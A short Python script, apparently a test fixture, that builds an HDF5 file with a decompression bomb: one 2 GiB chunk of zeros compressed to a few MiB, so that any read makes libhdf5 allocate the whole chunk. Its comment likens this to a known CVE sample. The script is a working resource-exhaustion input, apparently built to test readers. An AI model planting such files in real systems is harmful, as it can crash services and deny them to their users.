# bomb.py FILE writes an HDF5 file whose /bomb is one 2 GiB chunk of zeros
# deflated to a few MiB: a read of any element makes libhdf5 allocate the
# whole chunk (and zlib its output), as cve-2018-11202.h5 makes it allocate
# without bound. /fine is a small variable beside it.
import sys, zlib, h5py, numpy as np
n = 2 << 30
c = zlib.compressobj(1)
z = bytes(1 << 20)
blob = b"".join([c.compress(z) for _ in range(n >> 20)] + [c.flush()])
with h5py.File(sys.argv[1], "w") as f:
    d = f.create_dataset("bomb", shape=(n,), dtype="i1", chunks=(n,), compression="gzip")
    d.id.write_direct_chunk((0,), blob)
    f["fine"] = np.arange(10, dtype="i4")
